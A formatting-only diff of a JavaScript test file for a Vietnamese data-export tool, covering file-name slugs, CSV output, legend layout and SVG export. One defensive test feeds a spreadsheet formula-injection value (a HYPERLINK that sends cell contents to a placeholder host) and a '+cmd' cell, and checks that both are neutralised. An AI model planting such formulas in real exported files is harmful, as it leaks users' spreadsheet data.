@@ -18,19 +18,38 @@ describe('file names', () => {
     expect(slugify('Tỉnh Long An')).toBe('tinh-long-an')
     expect(slugify('Đức Hòa')).toBe('duc-hoa')
     expect(exportFileName('ranking', 'long-an', 2023, 'png')).toBe('ranking-long-an-2023.png')
-    expect(exportFileName('change', 'Thành phố Long Xuyên', '2019-2024', 'csv')).toBe('change-thanh-pho-long-xuyen-2019-2024.csv')
+    expect(exportFileName('change', 'Thành phố Long Xuyên', '2019-2024', 'csv')).toBe(
+      'change-thanh-pho-long-xuyen-2019-2024.csv',
+    )
   })
 })
 
 describe('toCsv', () => {
   it('writes a BOM, a header row and raw numbers, quoting where needed', () => {
-    const csv = toCsv(['Đơn vị', 'Chỉ số'], [['Huyện Thạnh Hóa', 80.1], ['A, "B"', null]])
+    const csv = toCsv(
+      ['Đơn vị', 'Chỉ số'],
+      [
+        ['Huyện Thạnh Hóa', 80.1],
+        ['A, "B"', null],
+      ],
+    )
     expect(csv.startsWith('\uFEFF')).toBe(true)
-    expect(csv.slice(1).split('\r\n')).toEqual(['Đơn vị,Chỉ số', 'Huyện Thạnh Hóa,80.1', '"A, ""B""",', ''])
+    expect(csv.slice(1).split('\r\n')).toEqual([
+      'Đơn vị,Chỉ số',
+      'Huyện Thạnh Hóa,80.1',
+      '"A, ""B""",',
+      '',
+    ])
   })
 
   it('neutralises formula-leading cells and keeps negative numbers numeric', () => {
-    const csv = toCsv(['Đơn vị', 'Thay đổi'], [['=HYPERLINK("http://x?leak="&A1,"click")', -5.35], ['+cmd', -2]])
+    const csv = toCsv(
+      ['Đơn vị', 'Thay đổi'],
+      [
+        ['=HYPERLINK("http://x?leak="&A1,"click")', -5.35],
+        ['+cmd', -2],
+      ],
+    )
     expect(csv.slice(1).split('\r\n')).toEqual([
       'Đơn vị,Thay đổi',
       `"'=HYPERLINK(""http://x?leak=""&A1,""click"")",-5.35`,
@@ -42,7 +61,10 @@ describe('toCsv', () => {
 
 describe('legend layout', () => {
   it('wraps items into rows within the width', () => {
-    const items = Array.from({ length: 12 }, (_, i) => ({ label: `Huyện số ${i + 1} rất dài`, color: '#000000' }))
+    const items = Array.from({ length: 12 }, (_, i) => ({
+      label: `Huyện số ${i + 1} rất dài`,
+      color: '#000000',
+    }))
     const { placed, rows } = layoutLegend(items, 800)
     expect(rows).toBeGreaterThan(1)
     expect(placed.every((p) => p.x < 800)).toBe(true)
@@ -51,7 +73,11 @@ describe('legend layout', () => {
 })
 
 describe('buildExportSvg', () => {
-  const svg = buildExportSvg(text, '<svg x="24" y="180" width="1552" height="700"><rect/></svg>', '@font-face{}')
+  const svg = buildExportSvg(
+    text,
+    '<svg x="24" y="180" width="1552" height="700"><rect/></svg>',
+    '@font-face{}',
+  )
 
   it('is a standalone SVG of the fixed export size', () => {
     expect(svg.startsWith('<svg xmlns="http://www.w3.org/2000/svg" width="1600"')).toBe(true)
